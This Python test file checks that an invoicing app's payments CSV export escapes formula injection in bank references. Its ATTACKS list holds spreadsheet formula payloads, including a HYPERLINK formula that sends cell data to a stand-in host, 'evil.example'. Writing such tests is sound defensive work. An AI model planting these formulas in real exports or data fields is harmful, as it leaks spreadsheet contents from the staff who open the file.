"""Hole 6: CSV injection. A bank reference sent through the API (or an imported statement)
such as ``=HYPERLINK(...)`` landed verbatim in the staff's payments CSV, where a spreadsheet
runs it as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import httpx

from facturo.accounts import api_tokens
from facturo.csv_export import csv_text, safe_cell
from facturo.models import StaffUser
from facturo.testing import logged_in_cookies
from tests.security.conftest import Site, new_customer, new_staff
from tests.web.conftest import new_proforma

# (Leading tabs and carriage returns are trimmed from references before they are stored; the
# escaping of those is checked on csv_text below.)
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)"]


def test_formula_cells_are_escaped_in_the_payments_export(
    site_factory: Callable[..., Site],
) -> None:
    # Recording a payment by hand needs a manual method enabled: the transfer plugin's.
    site = site_factory(plugins=("transfer",))
    admin = new_staff(site.ctx, "admin")
    with site.ctx.db.transaction() as session:
        row = session.get(StaffUser, admin.id)
        assert row is not None
        _token, secret = api_tokens.create_token(session, row, "import", "read-write", "system")
    customer = new_customer(site.ctx)
    with httpx.Client(base_url=site.url, headers={"Authorization": f"Bearer {secret}"}) as api:
        for reference in ATTACKS:
            document = new_proforma(site.ctx, customer)
            body = {
                "document_id": document.id,
                "amount": "1.00",
                "paid_on": "2026-03-02",
                "bank_reference": reference,
            }
            assert api.post("/api/v1/payments", json=body).status_code == 201
    with httpx.Client(base_url=site.url, cookies=logged_in_cookies(site.ctx, staff=admin)) as web:
        export = web.get("/admin/payments.csv")
    assert export.status_code == 200 and export.headers["cache-control"] == "no-store"
    rows = list(csv.reader(io.StringIO(export.text)))
    references = [r[3] for r in rows[1:]]
    assert sorted(references) == sorted("'" + attack for attack in ATTACKS)
    assert all(not r.startswith(("=", "+", "-", "@", "\t", "\r")) for r in references)
    amounts = [r[4] for r in rows[1:]]
    assert set(amounts) == {"1.00"}  # numbers are left as numbers


def test_safe_cell_leaves_numbers_and_plain_text() -> None:
    from decimal import Decimal

    assert safe_cell(Decimal("-10.00")) == Decimal("-10.00")
    assert safe_cell("F2026-000001") == "F2026-000001"
    assert safe_cell("=1+1") == "'=1+1"
    text = csv_text(["a"], [["\tcmd"], ["\rcmd"], ["ok"]])
    assert list(csv.reader(io.StringIO(text)))[1:] == [["'\tcmd"], ["'\rcmd"], ["ok"]]
